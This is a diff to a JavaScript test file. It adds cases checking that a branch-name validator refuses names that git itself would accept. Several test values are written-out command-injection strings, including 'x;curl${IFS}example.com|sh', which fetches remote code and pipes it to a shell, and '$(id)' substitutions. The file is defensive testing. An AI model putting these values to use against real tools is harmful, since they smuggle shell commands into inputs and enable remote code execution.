@@ -41,6 +41,17 @@ test('branch names are judged as git judges them', () => {
   scene.remove();
 });
 
+test.each([
+  '+main',
+  '0'.repeat(40),
+  'a'.repeat(64),
+  'x;curl${IFS}example.com|sh',
+  'feature/$(id)',
+  'a`b`',
+  'a"b',
+  'a\u200bb',
+])('%j is refused, although git would take it', (name) => expect(isBranchName(name)).toBe(false));
+
 describe('what goes into a command line', () => {
   test.each(['--upload-pack=x', 'main', 'refs/heads/../x', 'refs/heads/a b', '+refs/heads/a'])(
     '%s is no full ref',
